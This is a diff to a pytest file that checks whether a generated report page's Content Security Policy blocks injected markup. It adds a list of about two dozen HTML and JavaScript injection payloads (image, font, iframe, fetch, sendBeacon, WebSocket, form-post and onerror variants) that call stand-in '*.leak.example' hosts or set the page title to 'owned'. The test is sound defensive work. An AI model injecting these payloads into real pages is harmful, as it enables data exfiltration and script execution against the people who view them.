@@ -11,7 +11,7 @@ from pathlib import Path
 import browsing
 import making
 import pytest
-from browsing import Trap
+from browsing import Trap, strangers
 
 pytestmark = pytest.mark.heavy
 Browse = Callable[[str], str]
@@ -80,7 +80,7 @@ def test_its_checks_hold_and_nothing_leaves_it(written: str, browse: Browse, tra
     assert title(dom) == "Evidence of social posts", "a hostile post ran"
     assert dom.count("— as logged") + dom.count(">as logged<") == 3
     assert dom.count("these bytes were logged") == 3  # two files, and the script
-    assert trap.of(b"example") == []
+    assert strangers(trap) == []
 
 
 @BOTH
@@ -151,21 +151,55 @@ def test_what_was_changed_is_wrong(written: str, browse: Browse, what: str) -> N
     assert title(dom) == "WRONG: Evidence of social posts"
 
 
-LEAK = (
-    '<img src="http://leak.example/a"><link rel="stylesheet" href="http://leak.example/b"><iframe src="http://leak.example/c">'
-    '</iframe><script src="http://leak.example/d"></script><style>body{background:url(http://leak.example/e)}</style>'
-    "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
-    '<meta http-equiv="refresh" content="0;url=http://leak.example/f"><object data="http://leak.example/g"></object>'
-)
+LEAKS = {
+    "image": '<img src="http://image.leak.example/">',
+    "script": '<script src="http://script.leak.example/"></script>',
+    "style": '<link rel="stylesheet" href="http://style.leak.example/">',
+    "import": '<style>@import "http://import.leak.example/";</style>',
+    "background": "<style>header{background:url(http://background.leak.example/)}</style>",
+    "font": "<style>@font-face{font-family:x;src:url(http://font.leak.example/)}header{font-family:x}</style>",
+    "frame": '<iframe src="http://frame.leak.example/"></iframe>',
+    "object": '<object data="http://object.leak.example/"></object>',
+    "video": '<video src="http://video.leak.example/" autoplay muted></video>',
+    "poster": '<video poster="http://poster.leak.example/"></video>',
+    "drawing": '<svg width="9" height="9"><image href="http://drawing.leak.example/" width="9" height="9"/></svg>',
+    "source": '<picture><source srcset="http://source.leak.example/"><img src="data:,"></picture>',
+    "srcset": '<img srcset="http://srcset.leak.example/ 2x">',
+    "track": '<video src="data:video/mp4," autoplay><track default src="http://track.leak.example/"></video>',
+    "icon": '<link rel="icon" href="http://icon.leak.example/">',
+    "prefetch": '<link rel="prefetch" href="http://prefetch.leak.example/">',
+    "preload": '<link rel="preload" as="image" href="http://preload.leak.example/">',
+    "fetch": "<script>fetch('http://fetch.leak.example/').catch(() => 0)</script>",
+    "beacon": "<script>navigator.sendBeacon('http://beacon.leak.example/', 'x')</script>",
+    "socket": "<script>new WebSocket('ws://socket.leak.example/')</script>",
+    "events": "<script>new EventSource('http://events.leak.example/')</script>",
+    "form": '<form id=f method=post target=t action="http://form.leak.example/"></form><iframe name=t></iframe>'
+    "<script>f.submit()</script>",
+    "handler": "<img src=x onerror=\"new Image().src='http://handler.leak.example/'; document.title='owned'\">",
+}
+IDLE = {"icon", "prefetch", "track"}
+"""What a browser need not ask for, though nothing forbids it."""
+EARLY = {"firefox": {"source"}}
+"""What a browser may ask for while it reads ahead, though the policy forbids it: Firefox 153, in few runs. The page
+holds no such element, nor any other that loads from elsewhere: test_report_page.py."""
+
+
+def leaked(trap: Trap) -> set[str]:
+    """Which of the leaks arrived. A browser may ask by HTTPS for what is named by HTTP."""
+    return {name.decode() for name in re.findall(rb"(\w+)\.leak\.example", b" ".join(trap.asked))}
 
 
 @BOTH
-def test_were_anything_to_slip_through_the_policy_would_stop_it(written: str, browse: Browse, trap: Trap) -> None:
-    """Markup put into the page by force loads nothing and runs nothing; without the policy it would."""
-    inside = LEAK.replace("<meta", "<x-meta")  # no policy stops a page from being left
-    dom = browse(written.replace("<header>", f"{inside}<header>", 1))
+def test_were_anything_to_slip_through_the_policy_would_stop_it(
+    written: str, browse: Browse, trap: Trap, browser: str
+) -> None:
+    """Markup put into the page by force loads nothing and runs nothing. Without the policy each kind of it is noticed
+    here, so that nothing leaves unseen."""
+    page = written.replace("<header>", f"{''.join(LEAKS.values())}<header>", 1)
+    dom = browse(page)
     assert title(dom) == "Evidence of social posts"
-    assert trap.of(b"leak.example") == []
-    dom = browse(re.sub(r"<meta http-equiv=.*?>\n", "", written, count=1).replace("<header>", f"{inside}<header>", 1))
+    assert leaked(trap) <= EARLY.get(browser, set())
+    assert [asked for asked in strangers(trap) if b".leak.example" not in asked] == []
+    dom = browse(re.sub(r"<meta http-equiv=.*?>\n", "", page, count=1))
     assert title(dom) == "owned"
-    assert trap.of(b"leak.example"), "the trap itself does not work"
+    assert set(LEAKS) - leaked(trap) <= IDLE
